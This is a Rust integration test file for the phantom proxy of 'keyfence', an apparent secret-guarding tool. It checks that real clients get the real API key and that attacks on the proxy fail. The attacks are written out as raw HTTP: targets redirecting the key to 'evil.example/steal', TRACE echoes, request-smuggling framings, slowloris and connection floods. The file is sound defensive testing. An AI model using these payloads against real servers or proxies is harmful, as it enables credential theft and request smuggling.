//! The phantom proxy against the built binary: real clients through it (Python's http.client
//! streaming a chunked body, a per-secret configuration) reach a loopback upstream with the
//! real key while holding only the stand-in; and the attacks a command can make on the proxy
//! itself (issue #14, part 5) — targets and methods that send the key elsewhere or echo it
//! back, ambiguous framing that smuggles a request, an endless head, slow and idle clients, a
//! flood of connections, an upstream that echoes the key — each fail.

use crate::common::claude_stub::Stub;
use crate::common::*;

const CLIENT: &str = r#"
import http.client, json, os, urllib.parse
base = urllib.parse.urlparse(os.environ["ANTHROPIC_BASE_URL"])
key = os.environ["ANTHROPIC_API_KEY"]
body = json.dumps({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": "chunked hello"}]}).encode()
parts = (body[i:i + 7] for i in range(0, len(body), 7))
c = http.client.HTTPConnection(base.hostname, base.port)
c.request("POST", "/v1/messages", body=parts, encode_chunked=True,
          headers={"x-api-key": key, "content-type": "application/json"})
r = c.getresponse()
print("status", r.status, len(r.read()) > 0)
print("prefix", key[:13])
"#;

#[test]
fn phantom_relays_chunked_request_bodies() {
    let mut fx = Fixture::new();
    let key = fx.key("anthropic");
    fx.store_secret("ANTHROPIC_API_KEY", &key);
    fx.project_file("client.py", CLIENT);
    let stub = Stub::start("true");
    let r = fx.run(
        &[
            "run",
            "--phantom",
            "ANTHROPIC_API_KEY",
            "--upstream",
            &stub.url,
            "--",
            "python3",
            "client.py",
        ],
        &[],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains("status 200 True"),
        "{}\n{}",
        r.stdout,
        r.stderr
    );
    assert!(r.stdout.contains("prefix sk-ant-api03-"), "{}", r.stdout);
    let msgs = stub.messages();
    assert_eq!(msgs.len(), 1, "{msgs:?}");
    assert_eq!(msgs[0].header("x-api-key"), Some(key.as_str()));
    assert_eq!(msgs[0].header("transfer-encoding"), Some("chunked"));
    assert!(msgs[0].body.contains("chunked hello"), "{}", msgs[0].body);
}

const CUSTOM_CLIENT: &str = r#"
import http.client, os, urllib.parse
base = urllib.parse.urlparse(os.environ["MISTRAL_BASE_URL"])
key = os.environ["MISTRAL_API_KEY"]
c = http.client.HTTPConnection(base.hostname, base.port)
c.request("POST", base.path + "/v1/messages", body=b"{}",
          headers={"authorization": "Bearer " + key, "x-api-key": key})
print("status", c.getresponse().status)
"#;

/// A provider keyfence has no defaults for, configured per secret in the user's profile:
/// base-URL variable, upstream and the one header that carries the key. The stand-in is swapped
/// only in that header.
#[test]
fn phantom_per_secret_configuration_in_a_profile() {
    let mut fx = Fixture::new();
    let key = fx.key("token");
    fx.store_secret("MISTRAL_API_KEY", &key);
    let stub = Stub::start("true");
    fx.home_file(
        ".config/keyfence/config.toml",
        &format!(
            "[[profile]]\nname = \"mistral\"\n\n[[profile.phantom]]\nvar = \"MISTRAL_API_KEY\"\n\
             base_url_var = \"MISTRAL_BASE_URL\"\nupstream = \"{}/api\"\nheaders = [\"Authorization\"]\n",
            stub.url
        ),
    );
    fx.project_file("client.py", CUSTOM_CLIENT);
    let r = fx.run(
        &["run", "--profile", "mistral", "--", "python3", "client.py"],
        &[],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains("status 200"),
        "{}\n{}",
        r.stdout,
        r.stderr
    );
    let reqs = stub.requests.lock().unwrap().clone();
    assert_eq!(reqs.len(), 1, "{reqs:?}");
    assert_eq!(reqs[0].path, "/api/v1/messages");
    assert_eq!(
        reqs[0].header("authorization"),
        Some(format!("Bearer {key}").as_str())
    );
    // Not a configured header: left as the client sent it, the stand-in.
    let other = reqs[0].header("x-api-key").unwrap_or_default();
    assert!(!other.is_empty() && other != key, "x-api-key was swapped");
}

/// A project's keyfence.toml may not choose where the real key goes.
#[test]
fn a_project_profile_cannot_redirect_a_phantom_upstream() {
    let mut fx = Fixture::new();
    let key = fx.key("anthropic");
    fx.store_secret("ANTHROPIC_API_KEY", &key);
    fx.project_file(
        "keyfence.toml",
        "[[profile]]\nname = \"agent2\"\n\n[[profile.phantom]]\nvar = \"ANTHROPIC_API_KEY\"\nupstream = \"http://127.0.0.1:9\"\n",
    );
    let r = fx.run(&["run", "--profile", "agent2", "--", "true"], &[]);
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(r.stderr.contains("may not set upstream"), "{}", r.stderr);
}

// ---------------------------------------------------------------------------------------------
// Attacks on the proxy itself (issue #14, part 5). The command is an attacker: it holds the
// stand-in and the proxy's address, and talks raw HTTP to the proxy, hoping to make the real
// key go somewhere, or be framed differently, than the proxy believes, or to wear the
// supervisor (keyfence's own process, which holds the real key) down. Each test talks to the
// proxy directly over loopback; `Upstream` below stands for the provider's API.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// `keyfence run --phantom ANTHROPIC_API_KEY` whose command only reports the proxy's address
/// and its stand-in, then waits for the test to finish.
struct Proxy {
    fx: Fixture,
    child: Option<Child>,
    addr: SocketAddr,
    standin: String,
    key: String,
}

impl Proxy {
    fn start(upstream: &Upstream, env: &[(&str, &str)]) -> Proxy {
        let mut fx = Fixture::new();
        let key = fx.key("anthropic");
        fx.store_secret("ANTHROPIC_API_KEY", &key);
        let script = "printf '%s %s\\n' \"$ANTHROPIC_BASE_URL\" \"$ANTHROPIC_API_KEY\" > info.tmp \
                      && mv info.tmp info && while [ ! -e stop ] && [ -e info ]; do sleep 0.05; done";
        let mut c = Command::new(BIN);
        c.current_dir(&fx.project)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &fx.home)
            .arg("--etc")
            .arg(&fx.etc)
            .args(["run", "--phantom", "ANTHROPIC_API_KEY", "--upstream"])
            .arg(&upstream.url)
            .args(["--", "sh", "-c", script])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for (k, v) in env {
            c.env(k, v);
        }
        let mut child = c.spawn().expect("start keyfence");
        let info = fx.project.join("info");
        let t = Instant::now();
        while !info.exists() {
            if let Ok(Some(st)) = child.try_wait() {
                let mut err = String::new();
                child.stderr.take().unwrap().read_to_string(&mut err).ok();
                panic!("keyfence exited ({st}) before its command started: {err}");
            }
            assert!(
                t.elapsed() < Duration::from_secs(20),
                "the command never started"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        let info = std::fs::read_to_string(info).unwrap();
        let (url, standin) = info.trim().split_once(' ').expect("url and stand-in");
        assert_ne!(standin, key);
        let addr = url.strip_prefix("http://").unwrap().parse().unwrap();
        Proxy {
            fx,
            child: Some(child),
            addr,
            standin: standin.to_string(),
            key,
        }
    }

    fn connect(&self) -> TcpStream {
        connect_to(self.addr)
    }

    /// Sends `raw` (with `{standin}` replaced) on a new connection and reads what comes back
    /// until the proxy closes the connection, or `wait` passes.
    fn exchange(&self, raw: &str, wait: Duration) -> Reply {
        let mut s = self.connect();
        s.write_all(raw.replace("{standin}", &self.standin).as_bytes())
            .expect("send");
        read_reply(&mut s, wait)
    }

    /// Ends the command and keyfence; nothing keyfence printed holds the real key.
    fn finish(mut self) {
        std::fs::write(self.fx.project.join("stop"), "").unwrap();
        let child = self.child.take().unwrap();
        let out = child.wait_with_output().expect("wait for keyfence");
        let run = Run::from(out);
        assert_eq!(run.code, 0, "{}", run.stderr);
        run.assert_no_secret(&self.fx.planted);
    }
}

impl Drop for Proxy {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = std::fs::write(self.fx.project.join("stop"), "");
            let t = Instant::now();
            while t.elapsed() < Duration::from_secs(3) {
                if let Ok(Some(_)) = c.try_wait() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn connect_to(addr: SocketAddr) -> TcpStream {
    let s = TcpStream::connect(addr).expect("connect to the proxy");
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s
}

/// What came back on a connection: the bytes, and whether the proxy closed it.
struct Reply {
    bytes: Vec<u8>,
    closed: bool,
}

impl Reply {
    fn status(&self) -> Option<u16> {
        let text = String::from_utf8_lossy(&self.bytes);
        text.strip_prefix("HTTP/1.1 ")?.get(..3)?.parse().ok()
    }

    /// The reply as text with `secret` blanked, fit for an assertion message.
    fn shown(&self, secret: &str) -> String {
        String::from_utf8_lossy(&self.bytes).replace(secret, "<THE REAL KEY>")
    }
}

fn read_reply(s: &mut TcpStream, wait: Duration) -> Reply {
    let deadline = Instant::now() + wait;
    let mut bytes = Vec::new();
    let mut buf = [0u8; 65536];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Reply {
                bytes,
                closed: false,
            };
        }
        s.set_read_timeout(Some(left)).unwrap();
        match s.read(&mut buf) {
            Ok(0) => {
                return Reply {
                    bytes,
                    closed: true,
                };
            }
            Ok(n) => bytes.extend_from_slice(&buf[..n]),
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return Reply {
                    bytes,
                    closed: false,
                };
            }
            // A reset is a close too.
            Err(_) => {
                return Reply {
                    bytes,
                    closed: true,
                };
            }
        }
    }
}

/// One request as the upstream framed it.
#[derive(Debug, Clone)]
struct Seen {
    request_line: String,
    headers: Vec<(String, String)>,
}

/// A loopback upstream that records every connection's raw bytes and the requests it framed
/// in them. It frames as a lenient server does — the first `Content-Length` counts and wins
/// over `Transfer-Encoding`, and it keeps reading requests on a connection whatever the
/// client said about closing it — which is how a front-end and the server behind it can
/// disagree with the proxy about where a request ends. `TRACE` is echoed (RFC 9110 §9.3.8), as is
/// a path ending in `/echo` (a debugging endpoint, an error quoting the request); a
/// path ending in `/big` gets a [`BIG`] body, anything else a small 200.
struct Upstream {
    url: String,
    raw: Arc<Mutex<Vec<Vec<u8>>>>,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Upstream {
    fn start() -> Upstream {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let url = format!("http://{}", listener.local_addr().unwrap());
        let raw = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (r, s) = (raw.clone(), seen.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                let (r, s) = (r.clone(), s.clone());
                std::thread::spawn(move || upstream_conn(conn, &r, &s));
            }
        });
        Upstream { url, raw, seen }
    }

    fn connections(&self) -> usize {
        self.raw.lock().unwrap().len()
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    /// Everything every connection carried, as text.
    fn all_raw(&self) -> String {
        self.raw
            .lock()
            .unwrap()
            .iter()
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .collect::<Vec<_>>()
            .join("\n----\n")
    }
}

fn upstream_conn(mut conn: TcpStream, raw: &Mutex<Vec<Vec<u8>>>, seen: &Mutex<Vec<Seen>>) {
    let index = {
        let mut r = raw.lock().unwrap();
        r.push(Vec::new());
        r.len() - 1
    };
    conn.set_read_timeout(Some(Duration::from_secs(10))).ok();
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 65536];
    loop {
        // Frame as many requests as the buffer holds.
        while let Some(end) = find(&buf, b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).into_owned();
            let mut lines = head.split("\r\n");
            let request_line = lines.next().unwrap_or("").to_string();
            let headers: Vec<(String, String)> = lines
                .filter_map(|l| l.split_once(':'))
                .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
                .collect();
            let cl = headers
                .iter()
                .find(|(k, _)| k == "content-length")
                .and_then(|(_, v)| v.parse::<usize>().ok());
            let te = headers.iter().any(|(k, v)| {
                k == "transfer-encoding" && v.to_ascii_lowercase().contains("chunked")
            });
            let body_start = end + 4;
            let body_len = match (cl, te) {
                (Some(n), _) => Some(n),
                (None, true) => chunked_len(&buf[body_start..]),
                (None, false) => Some(0),
            };
            let Some(body_len) = body_len else { break };
            if buf.len() < body_start + body_len {
                break;
            }
            let trace = request_line.starts_with("TRACE ")
                || request_line
                    .split(' ')
                    .nth(1)
                    .is_some_and(|p| p.ends_with("/echo"));
            let big = request_line
                .split(' ')
                .nth(1)
                .is_some_and(|p| p.ends_with("/big"));
            seen.lock().unwrap().push(Seen {
                request_line,
                headers,
            });
            let response = if trace {
                let echoed = &buf[..body_start];
                let mut r = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: message/http\r\ncontent-length: {}\r\n\r\n",
                    echoed.len()
                )
                .into_bytes();
                r.extend_from_slice(echoed);
                r
            } else if big {
                // More than every socket buffer on the way holds (tcp_rmem goes to 32 MiB).
                let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {BIG}\r\n\r\n");
                let mut ok = conn.write_all(head.as_bytes()).is_ok();
                let block = vec![b'x'; 1 << 20];
                for _ in 0..BIG >> 20 {
                    ok = ok && conn.write_all(&block).is_ok();
                }
                if !ok {
                    return;
                }
                Vec::new()
            } else {
                b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok".to_vec()
            };
            buf.drain(..body_start + body_len);
            if conn.write_all(&response).is_err() {
                return;
            }
        }
        match conn.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(n) => {
                buf.extend_from_slice(&chunk[..n]);
                raw.lock().unwrap()[index].extend_from_slice(&chunk[..n]);
            }
        }
    }
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// The length of a complete chunked body at the start of `b`, framing included.
fn chunked_len(b: &[u8]) -> Option<usize> {
    let mut at = 0;
    loop {
        let eol = at + find(&b[at..], b"\r\n")?;
        let line = std::str::from_utf8(&b[at..eol]).ok()?;
        let size = usize::from_str_radix(line.split(';').next()?.trim(), 16).ok()?;
        at = eol + 2;
        if size == 0 {
            return Some(at + find(&b[at..], b"\r\n")? + 2);
        }
        at += size + 2;
        if at > b.len() {
            return None;
        }
    }
}

const WAIT: Duration = Duration::from_secs(3);
/// The size of the `/big` response.
const BIG: usize = 512 << 20;

/// A request the proxy forwards: the baseline every refusal below is measured against.
#[test]
fn phantom_forwards_a_plain_request_with_the_real_key() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    let r = proxy.exchange(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {standin}\r\ncontent-length: 2\r\n\r\n{}",
        WAIT,
    );
    assert_eq!(r.status(), Some(200), "{}", r.shown(&proxy.key));
    assert!(r.closed);
    let seen = up.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].request_line, "POST /v1/messages HTTP/1.1");
    let key = seen[0].headers.iter().find(|(k, _)| k == "x-api-key");
    assert!(
        key.is_some_and(|(_, v)| v == &proxy.key),
        "the real key was not swapped in"
    );
    // Without the stand-in, nothing is forwarded.
    let r = proxy.exchange(
        "GET /v1/models HTTP/1.1\r\nhost: x\r\nx-api-key: sk-ant-api03-other\r\n\r\n",
        WAIT,
    );
    assert_eq!(r.status(), Some(403), "{}", r.shown(&proxy.key));
    assert!(r.closed);
    assert_eq!(up.connections(), 1);
    proxy.finish();
}

/// The testing knob that shortens the proxy's time limits is checked, not ignored.
#[test]
fn phantom_refuses_a_malformed_timeout_knob() {
    let mut fx = Fixture::new();
    let key = fx.key("anthropic");
    fx.store_secret("ANTHROPIC_API_KEY", &key);
    for bad in ["abc", "0", "-5", "1.5"] {
        let r = fx.run(
            &[
                "run",
                "--phantom",
                "ANTHROPIC_API_KEY",
                "--upstream",
                "http://127.0.0.1:9",
                "--",
                "true",
            ],
            &[("KEYFENCE_PHANTOM_TIMEOUT_MS", bad)],
        );
        assert_eq!(r.code, 125, "{bad}: {}", r.stderr);
        assert!(
            r.stderr
                .contains("KEYFENCE_PHANTOM_TIMEOUT_MS must be a whole number"),
            "{bad}: {}",
            r.stderr
        );
    }
}

/// Absolute-form, authority-form (CONNECT) and asterisk-form targets, and origin-form ones
/// that leave the path the proxy set: an upstream behind a front-end that routes by the target
/// (RFC 9112 §3.2.2 makes the absolute form override Host) would take the real key to
/// another host. Before the fix the proxy forwarded each with the real key.
#[test]
fn phantom_refuses_targets_other_than_origin_form() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    for target in [
        "GET http://evil.example/steal HTTP/1.1",
        "GET https://evil.example:443/v1/messages HTTP/1.1",
        "CONNECT evil.example:443 HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "GET //evil.example/steal HTTP/1.1",
        "GET evil.example/steal HTTP/1.1",
        "GET /v1/../../steal HTTP/1.1",
        "GET /v1/%2E%2e/steal HTTP/1.1",
        "GET /v1\\..\\steal HTTP/1.1",
    ] {
        let r = proxy.exchange(
            &format!("{target}\r\nhost: evil.example\r\nx-api-key: {{standin}}\r\n\r\n"),
            WAIT,
        );
        assert_eq!(r.status(), Some(400), "{target}: {}", r.shown(&proxy.key));
        assert!(r.closed, "{target}: connection left open");
    }
    assert_eq!(
        up.connections(),
        0,
        "the upstream was reached:\n{}",
        up.all_raw().replace(&proxy.key, "<THE REAL KEY>")
    );
    proxy.finish();
}

/// TRACE (and IIS's TRACK) make a server echo the request it received: through the proxy,
/// that is the request with the real key in it, handed back to the command. Before the fix
/// the echo carried the real key.
#[test]
fn phantom_refuses_methods_that_echo_the_request() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    for method in ["TRACE", "TRACK", "CONNECT", "PRI", "FOO"] {
        let r = proxy.exchange(
            &format!("{method} /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {{standin}}\r\n\r\n"),
            WAIT,
        );
        assert!(
            !String::from_utf8_lossy(&r.bytes).contains(&proxy.key),
            "{method}: the real key came back to the command"
        );
        assert_eq!(r.status(), Some(405), "{method}: {}", r.shown(&proxy.key));
        assert!(r.closed, "{method}: connection left open");
    }
    assert_eq!(up.connections(), 0, "the upstream was reached");
    proxy.finish();
}

/// An upstream that echoes what it received (here a path ending in `/echo`; in the wild an
/// error message quoting the header, a debugging endpoint, a gateway's request log) hands the
/// real key back through the proxy. Before the fix the command read it in the response; now
/// it reads its own stand-in in that place, headers and body, plain and chunked.
#[test]
fn phantom_takes_the_real_key_out_of_responses() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    for auth in ["x-api-key: {standin}", "authorization: Bearer {standin}"] {
        let r = proxy.exchange(
            &format!("POST /v1/echo HTTP/1.1\r\nhost: x\r\n{auth}\r\ncontent-length: 0\r\n\r\n"),
            WAIT,
        );
        let text = String::from_utf8_lossy(&r.bytes).into_owned();
        assert!(
            !text.contains(&proxy.key),
            "{auth}: the real key came back to the command"
        );
        assert_eq!(r.status(), Some(200), "{}", r.shown(&proxy.key));
        let echoed = auth.replace("{standin}", &proxy.standin);
        assert!(text.contains(&echoed), "{auth}: not echoed: {text}");
    }
    // The upstream did receive the real key: what came back was scrubbed on the way.
    assert!(up.all_raw().contains(&proxy.key));
    proxy.finish();
}

/// Request smuggling: a request whose length the proxy and the upstream read differently
/// hides a second request in the first one's body, which reaches the upstream without the
/// proxy's checks — and behind a front-end that reuses its connections, a smuggled prefix
/// captures the next request, real key included. Before the fix the upstream framed a
/// `/smuggled` request out of every one of these.
#[test]
fn phantom_refuses_ambiguous_framing() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    let smuggled = "GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n";
    let chunk = format!("{:x}\r\n{smuggled}\r\n0\r\n\r\n", smuggled.len());
    let head = "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {standin}\r\n";
    let cases: Vec<(&str, String, u16)> = vec![
        (
            "Content-Length and Transfer-Encoding",
            format!("{head}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n{chunk}"),
            400,
        ),
        (
            "two Content-Length",
            format!(
                "{head}content-length: 0\r\ncontent-length: {}\r\n\r\n{smuggled}",
                smuggled.len()
            ),
            400,
        ),
        (
            "a Content-Length list",
            format!(
                "{head}content-length: 0, {}\r\n\r\n{smuggled}",
                smuggled.len()
            ),
            400,
        ),
        (
            "a signed Content-Length",
            format!(
                "{head}content-length: +{}\r\n\r\n{smuggled}",
                smuggled.len()
            ),
            400,
        ),
        (
            "a coding before chunked",
            format!("{head}transfer-encoding: identity, chunked\r\n\r\n{chunk}"),
            501,
        ),
        (
            "a coding after chunked",
            format!(
                "{head}transfer-encoding: chunked, identity\r\ncontent-length: 0\r\n\r\n{chunk}"
            ),
            400,
        ),
        (
            "two Transfer-Encoding",
            format!(
                "{head}transfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n\r\n{chunk}"
            ),
            400,
        ),
        (
            "Transfer-Encoding in HTTP/1.0",
            format!(
                "{}transfer-encoding: chunked\r\n\r\n{chunk}",
                head.replace("HTTP/1.1", "HTTP/1.0")
            ),
            400,
        ),
        (
            "an obs-folded Transfer-Encoding",
            format!("{head}x-note: a\r\n transfer-encoding: chunked\r\n\r\n{chunk}"),
            400,
        ),
        (
            "a space before the colon",
            format!("{head}transfer-encoding : chunked\r\n\r\n{chunk}"),
            400,
        ),
    ];
    for (what, raw, status) in &cases {
        let r = proxy.exchange(raw, WAIT);
        assert_eq!(r.status(), Some(*status), "{what}: {}", r.shown(&proxy.key));
        assert!(r.closed, "{what}: connection left open");
    }
    let seen = up.seen();
    assert!(
        !seen.iter().any(|s| s.request_line.contains("/smuggled")),
        "a smuggled request reached the upstream: {seen:?}"
    );
    assert_eq!(up.connections(), 0, "the upstream was reached: {seen:?}");
    proxy.finish();
}

/// A chunked body reaches the upstream with the framing the proxy read, and nothing else that
/// could frame it: one `transfer-encoding: chunked`, no `content-length`, chunk-size lines
/// rewritten, extensions and trailer fields dropped, and a malformed chunk ends the request.
#[test]
fn phantom_forwards_chunked_bodies_in_canonical_framing() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    let r = proxy.exchange(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {standin}\r\ntransfer-encoding: Chunked\r\n\r\n\
         000002;ext=\"a\"\r\n{}\r\n0\r\ncontent-length: 99\r\n\r\n",
        WAIT,
    );
    assert_eq!(r.status(), Some(200), "{}", r.shown(&proxy.key));
    let raw = up.all_raw();
    let body = &raw[raw.find("\r\n\r\n").unwrap() + 4..];
    assert_eq!(body, "2\r\n{}\r\n0\r\n\r\n", "framing as forwarded");
    let seen = up.seen();
    let framing: Vec<_> = seen[0]
        .headers
        .iter()
        .filter(|(k, _)| k == "content-length" || k == "transfer-encoding")
        .collect();
    assert_eq!(framing, [&("transfer-encoding".into(), "chunked".into())]);
    proxy.finish();
}

/// A request head that never ends must not grow the supervisor's memory without bound.
/// Before the fix the proxy kept buffering one endless header line.
#[test]
fn phantom_caps_the_request_head() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    let mut s = proxy.connect();
    let line = format!(
        "GET /v1/models HTTP/1.1\r\nx-api-key: {}\r\nx-pad: ",
        proxy.standin
    );
    s.write_all(line.as_bytes()).unwrap();
    let pad = vec![b'a'; 64 * 1024];
    let mut sent = 0usize;
    // Stop when the proxy stops reading; 8 MiB is far past any limit it may have.
    while sent < 8 << 20 && s.write_all(&pad).is_ok() {
        sent += pad.len();
        if sent >= 1 << 20 {
            s.set_write_timeout(Some(Duration::from_secs(2))).unwrap();
        }
    }
    let r = read_reply(&mut s, WAIT);
    assert_eq!(r.status(), Some(431), "{}", r.shown(&proxy.key));
    assert!(r.closed);
    assert_eq!(up.connections(), 0);
    proxy.finish();
}

/// Slowloris and friends, with the limit shortened for the test: a connection that sends
/// nothing, one that sends its head a byte at a time, one that drips its body, and one that
/// never reads its response each lose their connection soon after the limit. Before the fix
/// all four were still being served when the test gave up on them.
#[test]
fn phantom_times_out_idle_and_slow_connections() {
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[("KEYFENCE_PHANTOM_TIMEOUT_MS", "500")]);
    // The threads get the address, not the proxy: a failed assertion must still drop it.
    let (addr, standin) = (proxy.addr, proxy.standin.clone());
    let started = Instant::now();
    let idle = {
        std::thread::spawn(move || {
            let mut s = connect_to(addr);
            read_reply(&mut s, WAIT)
        })
    };
    let drip = |head_bytes: Vec<u8>, body: bool| {
        std::thread::spawn(move || {
            let mut s = connect_to(addr);
            let mut drip_from = 0;
            if body {
                s.write_all(&head_bytes).unwrap();
                drip_from = head_bytes.len();
            }
            let deadline = Instant::now() + WAIT;
            let mut bytes = head_bytes[..drip_from].to_vec();
            bytes.extend(std::iter::repeat_n(b'a', 1 << 16));
            for b in &bytes[drip_from..] {
                if Instant::now() > deadline || s.write_all(&[*b]).is_err() {
                    break;
                }
                // A byte every 100 ms: each one well inside the limit, the whole never.
                std::thread::sleep(Duration::from_millis(100));
                // Stop once the proxy answered or closed (peek leaves the answer to read).
                s.set_read_timeout(Some(Duration::from_millis(1))).unwrap();
                if s.peek(&mut [0u8; 1]).is_ok() {
                    break;
                }
            }
            read_reply(&mut s, Duration::from_millis(200))
        })
    };
    let head = format!(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {}\r\ncontent-length: 100000\r\n\r\n",
        proxy.standin
    );
    let slow_head = drip(head.clone().into_bytes(), false);
    let slow_body = drip(head.into_bytes(), true);
    let slow_reader = {
        std::thread::spawn(move || {
            let mut s = connect_to(addr);
            let req = format!(
                "POST /v1/big HTTP/1.1\r\nhost: x\r\nx-api-key: {}\r\ncontent-length: 0\r\n\r\n",
                standin
            );
            s.write_all(req.as_bytes()).unwrap();
            // Read nothing while the proxy's writes back up, then take what is left.
            std::thread::sleep(Duration::from_millis(2000));
            read_reply(&mut s, WAIT)
        })
    };
    let r = idle.join().unwrap();
    assert!(r.closed, "an idle connection was kept open");
    assert_eq!(r.status(), Some(408), "{}", r.shown(&proxy.key));
    let r = slow_head.join().unwrap();
    assert!(r.closed, "a head sent a byte at a time was kept open");
    assert_eq!(r.status(), Some(408), "{}", r.shown(&proxy.key));
    let r = slow_body.join().unwrap();
    assert!(r.closed, "a body sent a byte at a time was kept open");
    let r = slow_reader.join().unwrap();
    assert!(r.closed, "a client that did not read was kept");
    assert!(
        r.bytes.len() < BIG,
        "the proxy waited for a client that did not read ({} bytes delivered)",
        r.bytes.len()
    );
    assert!(started.elapsed() < Duration::from_secs(8));
    // The proxy still serves well-behaved clients, within the short limit.
    let r = proxy.exchange(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {standin}\r\ncontent-length: 2\r\n\r\n{}",
        WAIT,
    );
    assert_eq!(r.status(), Some(200), "{}", r.shown(&proxy.key));
    proxy.finish();
}

/// A flood of connections: each used to cost the supervisor a thread, without limit. Past
/// the cap the proxy answers 503 at once and closes; the connections it holds keep working,
/// and a closed one frees its slot. Before the fix connection 129 was taken like the others.
#[test]
fn phantom_caps_concurrent_connections() {
    const CAP: usize = 128;
    let up = Upstream::start();
    let proxy = Proxy::start(&up, &[]);
    let mut held: Vec<TcpStream> = (0..CAP).map(|_| proxy.connect()).collect();
    // The proxy takes connections in order; give it a moment to count the last ones.
    std::thread::sleep(Duration::from_millis(200));
    let t = Instant::now();
    let r = proxy.exchange("", Duration::from_secs(2));
    assert_eq!(
        r.status(),
        Some(503),
        "connection {} was not turned away: {}",
        CAP + 1,
        r.shown(&proxy.key)
    );
    assert!(r.closed && t.elapsed() < Duration::from_secs(1));
    // A held connection still gets its request through.
    let mut first = held.remove(0);
    first
        .write_all(
            format!(
                "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {}\r\ncontent-length: 2\r\n\r\n{{}}",
                proxy.standin
            )
            .as_bytes(),
        )
        .unwrap();
    let r = read_reply(&mut first, WAIT);
    assert_eq!(r.status(), Some(200), "{}", r.shown(&proxy.key));
    drop(first);
    // Closed connections give their slots back.
    held.truncate(CAP - 10);
    let t = Instant::now();
    loop {
        let r = proxy.exchange(
            "POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {standin}\r\ncontent-length: 2\r\n\r\n{}",
            WAIT,
        );
        if r.status() == Some(200) {
            break;
        }
        assert_eq!(r.status(), Some(503), "{}", r.shown(&proxy.key));
        assert!(t.elapsed() < Duration::from_secs(3), "no slot was freed");
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(held);
    proxy.finish();
}
